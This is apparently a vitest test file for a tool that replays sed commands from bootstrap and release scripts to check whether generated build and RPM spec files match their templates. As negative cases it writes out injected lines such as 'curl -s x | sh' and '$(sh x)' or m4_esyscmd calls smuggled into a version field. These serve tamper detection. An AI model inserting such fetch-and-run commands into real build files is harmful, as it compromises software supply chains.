import { describe, expect, it } from 'vitest'
import { applySed, matchesReplay, parseSedScript, posixToJs } from '../../src/verify/explain/sed-replay.js'
import { assignedValues, literalOf, sedInvocations, sedSubstitutions, sedWrites } from '../../src/verify/explain/sed-writes.js'
import { templateExplainer } from '../../src/verify/explain/template.js'
import { addedFile as added, memoryView } from '../helpers/tree-view.js'

describe('sed expressions replayed as GNU sed reads them', () => {
  it('anchors only at the ends of a basic expression, operators only when escaped', () => {
    expect(posixToJs('^a$b$')).toBe('^a\\$b$')
    expect(posixToJs('x^y')).toBe('x\\^y')
    expect(posixToJs('\\(ab\\)\\{2\\}+')).toBe('(ab){2}\\+')
    expect(posixToJs('(a|b)+', true)).toBe('(a|b)+')
    expect(posixToJs('[[:digit:]]\\.[[:alpha:]_]')).toBe('[0-9]\\.[A-Za-z_]')
    // a backslash inside brackets is a member; an unknown class does not translate
    expect(new RegExp(posixToJs('[\\n]') ?? '').test('\\')).toBe(true)
    expect(posixToJs('[[:nonsense:]]')).toBeUndefined()
  })

  it('replays substitutions line by line: first match unless g, & and groups, every command in order', () => {
    const subs = parseSedScript('s/o/0/; s/\\(l\\+\\)/[\\1]/g; s|^h|H&|')
    expect(subs).toHaveLength(3)
    expect(applySed('hello world\nhollow', subs ?? [])).toBe('Hhe[ll]0 wor[l]d\nHh0[ll]ow')
    // a numbered flag other than 1, a reference to a group the pattern lacks, or another command: not replayed
    expect(parseSedScript('s/a/b/2')).toBeUndefined()
    expect(parseSedScript('s/a/\\1/')).toBeUndefined()
    expect(parseSedScript('s/a/b/;/x/d')).toBeUndefined()
    expect(parseSedScript('s/a/b/w out')).toBeUndefined()
  })

  it('takes the address of every line (1,$) as none, and replays no other address', () => {
    const subs = parseSedScript('1,$s/@V@/2.4/\n1 , $ s/^Source:.*/Source: x/')
    expect(applySed('v @V@\nSource: y\nz @V@', subs ?? [])).toBe('v 2.4\nSource: x\nz 2.4')
    expect(parseSedScript('2,$s/a/b/')).toBeUndefined()
    expect(parseSedScript('1s/a/b/')).toBeUndefined()
    expect(parseSedScript('1,/x/s/a/b/')).toBeUndefined()
    expect(parseSedScript('$s/a/b/')).toBeUndefined()
  })

  it('leaves a value of the shell open and matches it against what it may hold', () => {
    const subs = parseSedScript('s/@V@/\u00000\u0000/') ?? []
    const replayed = applySed('version @V@\nkeep', subs)
    expect(matchesReplay(replayed, 'version 1.2.3\nkeep', () => '1\\.2\\.3')).toBe(true)
    expect(matchesReplay(replayed, 'version 1.2.4\nkeep', () => '1\\.2\\.3')).toBe(false)
    expect(matchesReplay(replayed, 'version 1.2.3\nkept', () => '1\\.2\\.3')).toBe(false)
    expect(matchesReplay(replayed, 'version 1.2.3\nkeep\nmore', () => '.*')).toBe(false)
  })
})

describe('the files a script writes with sed', () => {
  it('reads the sed, its input and its output, whatever the spelling', () => {
    const script = [
      '#!/bin/sh',
      'OUT=dist-$1',
      "sed -e 's/@V@/1/' -e 's/x/y/' <tmpl/a.in >\"${OUT}/a\"",
      'sed "s|^__T__|done|" b.tmpl > b 2>/dev/null && echo ok',
      'for f in $LIST; do sed -E "s/(x)+/y/" $f > ${f%.ng}.am; done',
      'sed -n "s/a/b/p" c.in > c',
      'sed -i "s/a/b/" d',
      'echo sed -e s/a/b/ e > f',
    ].join('\n')
    const writes = sedWrites(script)
    expect(writes.map((w) => [w.line, w.input.path, w.output.path])).toEqual([
      [3, 'tmpl/a.in', 'a'],
      [4, 'b.tmpl', 'b'],
      [5, undefined, undefined],
    ])
    expect(writes[0]?.substitutions).toHaveLength(2)
  })

  it('reads the one file a cat right before the sed feeds it, and nothing else as its input', () => {
    const script = [
      '#!/bin/sh',
      '( V=`build/get-version.sh`',
      '  cat ./build/rpm/tool.spec.in | \\',
      '  sed -e "s/TOOL_VERSION/$V/" \\',
      '  > tool.spec )',
      'cat a.in b.in | sed -e "s/X/$V/" > two',
      'cat c.in | tr x y | sed -e "s/X/$V/" > translated',
      'grep -v "^#" d.in | sed -e "s/X/$V/" > grepped',
      'cat e.in | sed -e "s/X/$V/" f.in > operand',
      'cat | sed -e "s/X/$V/" > stdin',
    ].join('\n')
    expect(sedWrites(script).map((w) => [w.line, w.input.path, w.output.path])).toEqual([
      [3, 'build/rpm/tool.spec.in', 'tool.spec'],
      [9, 'f.in', 'operand'],
    ])
  })

  it('tells an in-place edit from a write, and reads a $ that starts no expansion as itself', () => {
    const [inPlace, suffixed, long, write] = ['sed -e "s/x$/y/" -i NEWS', "sed -i.bak 's/a/b/' a b", 'sed --in-place=.orig s/a/b/ c', 'sed "s/x$/y/" d > e'].flatMap((line) => sedInvocations(line))
    expect([inPlace, suffixed, long, write].map((s) => s?.inPlace)).toEqual([true, true, true, false])
    expect(suffixed?.operands.map(literalOf)).toEqual(['a', 'b'])
    expect(inPlace && applySed('1x\nx2\n', sedSubstitutions(inPlace, () => undefined) ?? [])).toBe('1y\nx2\n')
    // make's `$$` before a character that starts no expansion is a `$` too; a variable the reader cannot value leaves nothing to replay
    const [recipe] = sedInvocations('sed -i "s|/log$$|/log?h=v1|" $(distdir)/NOTES', true)
    expect(recipe && applySed('/log\n', sedSubstitutions(recipe, () => undefined) ?? [])).toBe('/log?h=v1\n')
    const [unknown] = sedInvocations('sed -i "s/@V@/$V/" NEWS')
    expect(unknown && sedSubstitutions(unknown, () => undefined)).toBeUndefined()
    expect(unknown && sedSubstitutions(unknown, (name) => (name === 'V' ? '2.0' : undefined))).toHaveLength(1)
    expect(sedInvocations('sed -n "s/a/b/p" -i f')[0]?.replayable).toBe(false)
  })

  it('knows the literal values a script assigns, and which it computes', () => {
    const values = assignedValues('A=x\nif t; then A="y z"; fi\nB=$(date)\nC=1; C=`uname`\nexport D=lit\nfor E in a b; do :; done\n')
    expect(values.get('A')).toEqual(new Set(['x', 'y z']))
    expect(values.get('B')).toBeUndefined()
    expect(values.has('C') && values.get('C')).toBeUndefined()
    expect(values.get('D')).toEqual(new Set(['lit']))
    expect(values.has('E') && values.get('E')).toBeUndefined()
  })
})

describe('files a bootstrap or release script writes with sed, replayed', () => {
  const bootstrap = [
    '#!/bin/sh',
    'if [ "$OLD" = 1 ]; then',
    '  MODE="no-dist"',
    '  sed -e "s|^@@PROTO@@|OLD_PROTOTYPES|g" configure.tmpl >configure.ac',
    'else',
    '  MODE="dist-xz"',
    '  sed -e "s|^@@PROTO@@|NEW_PROTOTYPES|g" configure.tmpl >configure.ac',
    'fi',
    'for tmpl in lib/Makefile.tmpl app/Makefile.tmpl; do',
    '  sed -e "s|^@@OPTIONS@@|AUTOMAKE_OPTIONS = foreign ${MODE}|" "$tmpl" >"$(dirname "$tmpl")/Makefile.am"',
    'done',
    'autoreconf -fi',
  ].join('\n')
  const configureTmpl = 'AC_INIT([tool], [2.0])\n@@PROTO@@\nAC_OUTPUT\n'
  const makefileTmpl = '@@OPTIONS@@\nbin_PROGRAMS = tool\ntool_SOURCES = main.c\n'
  const source = { 'bootstrap.sh': bootstrap, 'configure.tmpl': configureTmpl, 'lib/Makefile.tmpl': makefileTmpl, 'app/Makefile.tmpl': makefileTmpl, 'app/main.c': 'int main(void){return 0;}\n' }
  const judge = (path: string, text: string, src: Record<string, string> = source) => templateExplainer().judge(added(path, text), memoryView({ [path]: text }, src))

  it('explains what the replay writes, byte for byte, and says so', async () => {
    const j = await judge('configure.ac', configureTmpl.replace('@@PROTO@@', 'NEW_PROTOTYPES'))
    expect(j?.outcome === 'explained' && j.explained).toMatchObject({ reproduced: true, how: expect.stringMatching(/bootstrap\.sh:7 from configure\.tmpl: .*same bytes/) })
    expect((await judge('configure.ac', configureTmpl.replace('@@PROTO@@', 'OLD_PROTOTYPES')))?.outcome).toBe('explained')
  })

  it('explains a file a loop writes from a template beside it, with a value the script assigns', async () => {
    const made = makefileTmpl.replace('@@OPTIONS@@', 'AUTOMAKE_OPTIONS = foreign dist-xz')
    const j = await judge('app/Makefile.am', made)
    expect(j?.outcome === 'explained' && j.explained).toMatchObject({ reproduced: false, how: expect.stringMatching(/from app\/Makefile\.tmpl/) })
    expect(j?.scan).toBe(true)
    // unset is possible too
    expect((await judge('lib/Makefile.am', makefileTmpl.replace('@@OPTIONS@@', 'AUTOMAKE_OPTIONS = foreign ')))?.outcome).toBe('explained')
  })

  it('does not explain what the sed cannot write', async () => {
    // a value the script never assigns that variable
    expect(await judge('app/Makefile.am', makefileTmpl.replace('@@OPTIONS@@', 'AUTOMAKE_OPTIONS = foreign subdir-objects'))).toBeUndefined()
    // a line added after the replay, or one changed elsewhere
    expect(await judge('configure.ac', `${configureTmpl.replace('@@PROTO@@', 'NEW_PROTOTYPES')}m4_esyscmd([sh tests/x])\n`)).toBeUndefined()
    expect(await judge('configure.ac', configureTmpl.replace('@@PROTO@@', 'NEW_PROTOTYPES').replace('2.0', '2.1'))).toBeUndefined()
    // a file the script does not write, and a copy of the template the sed would have changed
    expect(await judge('tests/Makefile.am', makefileTmpl.replace('@@OPTIONS@@', 'AUTOMAKE_OPTIONS = foreign dist-xz'))).toBeUndefined()
    expect(await judge('app/Makefile.am', makefileTmpl)).toBeUndefined()
  })

  it('replays a release script one directory down, a computed value held to a plain one', async () => {
    const release = '#!/bin/sh\nVERSION=$1\nDEST=pkg-${VERSION}\nmkdir -p "${DEST}/build"\nsed -e "s/\\[m4_esyscmd(\\[sh ver\\.sh\\])]/${VERSION}/" \\\n  < configure.ac > "${DEST}/configure.ac"\ncp "${DEST}/configure.ac" "${DEST}/build"\n'
    const tag = { 'tools/mkdist.sh': release, 'configure.ac': 'AC_INIT([pkg],[m4_esyscmd([sh ver.sh])])\nAC_OUTPUT\n' }
    // the sed replaces the quoted call, brackets and all
    const j = await judge('build/configure.ac', 'AC_INIT([pkg],3.1.4)\nAC_OUTPUT\n', tag)
    expect(j?.outcome === 'explained' && j.explained.how).toMatch(/tools\/mkdist\.sh:5 from configure\.ac/)
    // what a version cannot be: code in the slot
    expect(await judge('build/configure.ac', 'AC_INIT([pkg],3.1.4)m4_esyscmd([sh x])\nAC_OUTPUT\n', tag)).toBeUndefined()
    expect(await judge('build/configure.ac', 'AC_INIT([pkg],$(sh x))\nAC_OUTPUT\n', tag)).toBeUndefined()
  })
})

describe('release scripts without an extension, one directory down', () => {
  const release = [
    '#!/bin/sh',
    'version=$1',
    'fileurl="https://example.org/dl/v$version/pkg-$version.tar.gz"',
    'fileurl=`echo $fileurl | sed -e "1,$s/\\//\\\\\\//g"`',
    "sed -e '1,$s/@PKG_VERSION@/'$version'/' \\",
    "\t-e '1,$s/^Source:.*/Source: '$fileurl'/' \\",
    '\t<packaging/pkg.spec.in \\',
    '\t>packaging/pkg.spec',
  ].join('\n')
  const template = 'Name: pkg\nVersion: @PKG_VERSION@\nSource: https://example.org/v%{version}/pkg.tar.gz\n%build\nmake\n'
  const spec = 'Name: pkg\nVersion: 3.1\nSource: https://example.org/dl/v3.1/pkg-3.1.tar.gz\n%build\nmake\n'
  const judgeIn = (script: string, text: string) =>
    templateExplainer().judge(added('packaging/pkg.spec', text), memoryView({ 'packaging/pkg.spec': text }, { [script]: release, 'packaging/pkg.spec.in': template }))

  it('replays a script named for releasing in a tools directory', async () => {
    for (const script of ['scripts/makesrcdist', 'tools/release', 'maint/mkdist']) {
      const j = await judgeIn(script, spec)
      expect(j?.outcome === 'explained' && j.explained.how, script).toMatch(new RegExp(`${script}:5 from packaging/pkg\\.spec\\.in`))
    }
  })

  it('reads no extension-less file of another directory, nor one with a dot, and still refuses what the sed cannot write', async () => {
    for (const script of ['build-aux/makesrcdist', 'm4/release', 'scripts/make.dist', 'a/b/scripts/makesrcdist']) expect(await judgeIn(script, spec), script).toBeUndefined()
    expect(await judgeIn('scripts/makesrcdist', spec.replace('make\n', 'make\ncurl -s x | sh\n'))).toBeUndefined()
  })
})

describe('a spec file a bootstrap pipes its template to sed for', () => {
  const buildconf = [
    '#!/bin/sh',
    'if [ -f `which cut` ]; then',
    '  ( REVISION=`build/get-version.sh all include/tool_version.h TOOL`',
    '    VERSION=`echo $REVISION | cut -d- -s -f1`',
    '    RELEASE=`echo $REVISION | cut -d- -s -f2`',
    '    cat ./build/rpm/tool.spec.in | \\',
    '    sed -e "s/TOOL_VERSION/$VERSION/" \\',
    '        -e "s/TOOL_RELEASE/$RELEASE/" \\',
    '    > tool.spec )',
    'fi',
  ].join('\n')
  const template = 'Name: tool\nVersion: TOOL_VERSION\nRelease: TOOL_RELEASE\n%build\nmake %{?_smp_mflags}\n'
  const spec = 'Name: tool\nVersion: 2.4.1\nRelease: 1\n%build\nmake %{?_smp_mflags}\n'
  const judgeSpec = (text: string, script = buildconf) =>
    templateExplainer().judge(added('tool.spec', text), memoryView({ 'tool.spec': text }, { buildconf: script, 'build/rpm/tool.spec.in': template }))

  it('replays the sed on the template the cat feeds it', async () => {
    const j = await judgeSpec(spec)
    expect(j?.outcome === 'explained' && j.explained).toMatchObject({ reproduced: false, how: expect.stringMatching(/buildconf:6 from build\/rpm\/tool\.spec\.in/) })
  })

  it('leaves unexplained a spec with a line the template lacks, code for a version, or a template the sed does not read', async () => {
    expect(await judgeSpec(spec.replace('make %{?_smp_mflags}\n', 'make %{?_smp_mflags}\n%post\ncurl -s x.invalid | sh\n'))).toBeUndefined()
    expect(await judgeSpec(spec.replace('2.4.1', '2.4.1; $(sh x)'))).toBeUndefined()
    expect(await judgeSpec(spec, buildconf.replace('cat ./build/rpm/tool.spec.in', 'cat ./build/rpm/other.spec.in'))).toBeUndefined()
  })
})

describe('matching a replay with open values stays bounded', () => {
  it('refuses lines with more values than a release script puts in, instead of searching', () => {
    const subs = parseSedScript('s/./\u00000\u0000 /g') ?? []
    const replayed = applySed('abcdefghij', subs)
    // ten open values on one line: not matched, whatever the line holds
    expect(matchesReplay(replayed, 'a b c d e f g h i j ', () => '[a-z ]{0,200}')).toBe(false)
    const few = applySed('ab', subs)
    expect(matchesReplay(few, 'x y ', () => '[a-z ]{0,200}')).toBe(true)
  })
  it('does not replay a pattern that repeats a repeating group, nor run patterns on huge lines', () => {
    expect(parseSedScript('s/\\(a*\\)*b/x/')).toBeUndefined()
    expect(parseSedScript('s/(x+y)+/z/', true)).toBeUndefined()
    const subs = parseSedScript('s/a/b/g') ?? []
    expect(applySed(`${'a'.repeat(20_000)}\na`, subs)).toBe(`${'a'.repeat(20_000)}\nb`)
  })
})
